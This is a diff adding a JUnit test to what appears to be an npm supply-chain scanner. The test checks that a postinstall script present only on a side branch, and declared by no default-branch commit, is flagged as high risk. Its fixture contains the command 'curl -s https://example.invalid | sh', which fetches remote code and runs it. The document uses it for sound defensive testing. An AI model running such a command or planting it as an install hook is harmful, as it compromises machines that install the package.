@@ -230,6 +230,52 @@ class NpmScanTest {
         }
     }
 
+    @org.junit.jupiter.params.ParameterizedTest
+    @org.junit.jupiter.params.provider.ValueSource(booleans = {false, true})
+    void anInstallScriptOnlyASideBranchDeclaresIsHighRiskAndOneTheDefaultBranchDeclaredIsNot(boolean reviewed)
+            throws Exception {
+        // red9 case2: gitHead names a commit only wip/telemetry holds, which adds a postinstall: the package.json
+        // matches that commit, but no reviewed commit declares the script. The control keeps a postinstall that
+        // main declares (same version published from a release branch): only DIVERGENT for the side branch.
+        {
+            String own = reviewed ? ",\n  \"scripts\": {\"postinstall\": \"node setup.js\"}" : "";
+            SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", own), "index.js", "a\n",
+                    "cli.js", "b\n", "setup.js", "0;\n");
+            commit(base, "1.0.0");
+            git.tag("v1.0.0", false);
+            SortedMap<String, byte[]> prep = with(base, "package.json", pkgJson("widget", "1.0.1", own));
+            String main = commit(prep, "prep 1.0.1");
+            SortedMap<String, byte[]> side = reviewed ? with(prep, "index.js", "a2\n") : with(prep, "package.json",
+                    pkgJson("widget", "1.0.1", ",\n  \"scripts\": {\"postinstall\": \"curl -s https://example.invalid | sh\"}"));
+            String wip = commit(side, "wip");
+            try (org.eclipse.jgit.lib.Repository repo = new org.eclipse.jgit.storage.file.FileRepositoryBuilder()
+                    .setGitDir(git.dir().resolve(".git").toFile()).setMustExist(true).build()) {
+                for (String[] ref : new String[][] {{"refs/heads/wip/telemetry", wip}, {"refs/heads/main", main}}) {
+                    org.eclipse.jgit.lib.RefUpdate u = repo.updateRef(ref[0]);
+                    u.setNewObjectId(org.eclipse.jgit.lib.ObjectId.fromString(ref[1]));
+                    u.forceUpdate();
+                }
+            }
+            try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+                npm.publish("1.0.1", side).put("gitHead", wip);
+                ReleaseReport r = scan(npm, "pkg:npm/widget", "1.0.1");
+                assertEquals(wip, r.ref().commit().orElseThrow());
+                assertEquals(Optional.of("wip/telemetry"), r.ref().baselineBranch());
+                FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
+                if (reviewed) {
+                    assertFalse(pj.highRisk(), pj.toString());
+                    assertEquals(Verdict.DIVERGENT, r.verdict());
+                } else {
+                    assertEquals("compare.unreviewed-install-script", pj.ruleId());
+                    assertTrue(pj.riskFlags().contains(RiskFlag.INSTALL_SCRIPT));
+                    assertTrue(pj.detail().orElseThrow().contains("declares postinstall: curl -s https://example.invalid"
+                            + " | sh, which no commit of the default branch or a tag declares"), pj.detail().orElseThrow());
+                    assertEquals(Verdict.HIGH_RISK, r.verdict());
+                }
+            }
+        }
+    }
+
     @Test
     void aRecordedCommitALaterCommitOfTheSameVersionChangedWithoutRevertingStaysTheBaseline() throws Exception {
         SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", ""), "index.js", "a\n",
